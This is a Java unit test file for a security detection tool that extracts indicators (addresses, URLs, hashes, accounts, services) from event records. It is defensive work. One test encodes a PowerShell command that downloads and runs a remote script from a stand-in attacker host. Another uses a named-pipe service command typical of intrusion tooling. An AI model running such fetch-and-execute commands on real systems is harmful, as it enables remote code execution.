package io.watchfloor.ops.detection.alert;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** A record's observables: accounts, addresses, URLs, hashes and services, including those inside encoded commands. */
class ObservablesTest {

    @Test
    void addressAndUrlOfAnEncodedCommandAreObservables() {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66:8080/a.ps1');"
                + " $c = 'https://Drop.Evil.example/x?y=1'; connect 2001:db8::c2";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));

        assertThat(Observables.of(Map.of("CommandLine", "powershell -nop -enc " + encoded)))
                .containsExactlyInAnyOrder(
                        new Observable("ip", "203.0.113.66"),
                        new Observable("ip", "2001:db8::c2"),
                        new Observable("url", "http://203.0.113.66:8080/a.ps1"),
                        new Observable("url", "https://Drop.Evil.example/x?y=1"),
                        new Observable("domain", "drop.evil.example"));
    }

    @Test
    void targetAccountServiceAndHashesOfEveryLengthAreObservables() {
        String sha512 = "ab".repeat(64);
        assertThat(Observables.of(Map.of(
                        "TargetUserName",
                        "brandt",
                        "ServiceName",
                        "PSEXESVC",
                        "TargetObject",
                        "HKLM\\Software\\Run\\x",
                        "Hashes",
                        "MD5=" + "1a".repeat(16) + ",SHA1=" + "2b".repeat(20) + ",IMPHASH=" + "3c".repeat(16),
                        "sha512",
                        sha512)))
                .containsExactlyInAnyOrder(
                        new Observable("user", "brandt"),
                        new Observable("service", "PSEXESVC"),
                        new Observable("registry", "HKLM\\Software\\Run\\x"),
                        new Observable("hash", "1a".repeat(16)),
                        new Observable("hash", "2b".repeat(20)),
                        new Observable("hash", "3c".repeat(16)),
                        new Observable("hash", sha512));
    }

    @Test
    void timesVersionsAndLoopbackAreNotAddresses() {
        assertThat(Observables.of(Map.of(
                        "CommandLine",
                        "at 12:30:59 run v1.2.3.4.5 from 127.0.0.1 and ::1 with C:\\x\\y.exe 300.1.1.1 0.0.0.0")))
                .isEmpty();
    }

    @Test
    void aHundredAddressesDoNotDisplaceTheAccount() {
        String many = String.join(
                " ", IntStream.range(0, 100).mapToObj(i -> "198.51.100." + i).toList());
        List<Observable> found = Observables.of(Map.of("CommandLine", many, "User", "CORP\\ann", "Image", "C:\\a.exe"));
        assertThat(found)
                .contains(new Observable("user", "CORP\\ann"), new Observable("process", "C:\\a.exe"))
                .hasSize(14);
    }

    @Test
    void theProgramOfAServiceIsAProcessAndADriverIsAFile() {
        assertThat(Observables.of(Map.of("ImagePath", "%COMSPEC% /c echo b6a > \\\\.\\pipe\\334485")))
                .containsExactly(new Observable("process", "%COMSPEC%"));
        assertThat(Observables.of(Map.of("ImagePath", "\"C:\\Program Files\\A\\a.exe\" -k run")))
                .containsExactly(new Observable("process", "C:\\Program Files\\A\\a.exe"));
        assertThat(Observables.of(Map.of("ServiceFileName", "C:\\Program Files\\B\\b.exe -s")))
                .containsExactly(new Observable("process", "C:\\Program Files\\B\\b.exe"));
        assertThat(Observables.of(Map.of("ImagePath", "\\SystemRoot\\System32\\drivers\\c.sys")))
                .containsExactly(new Observable("file", "\\SystemRoot\\System32\\drivers\\c.sys"));
    }
}
